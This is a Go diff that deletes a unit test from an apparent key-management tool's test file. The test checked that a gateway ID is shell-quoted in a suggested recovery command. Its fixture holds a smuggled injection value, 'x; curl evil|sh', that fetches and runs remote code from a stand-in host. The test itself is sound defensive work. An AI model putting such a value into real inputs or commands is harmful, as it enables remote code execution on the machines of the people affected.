@@ -132,13 +132,3 @@ func TestBrowserLeaves(t *testing.T) {
 		t.Errorf("a browser that waits gets %d, and the log %q", w.Code, s.log)
 	}
 }
-
-// The ID of a gateway, which the gateway itself writes, is one word of the command to copy.
-func TestCureQuotesGateway(t *testing.T) {
-	g := keystore.Gateway{ID: "x; curl evil|sh\x1b"}
-	for _, state := range []string{keystore.GatewaySilent, keystore.GatewayReplaced} {
-		if cure := cureOf(g, state); !strings.HasSuffix(cure, "keyadmin gateway forget 'x; curl evil|sh?'") {
-			t.Errorf("%s: %q", state, cure)
-		}
-	}
-}
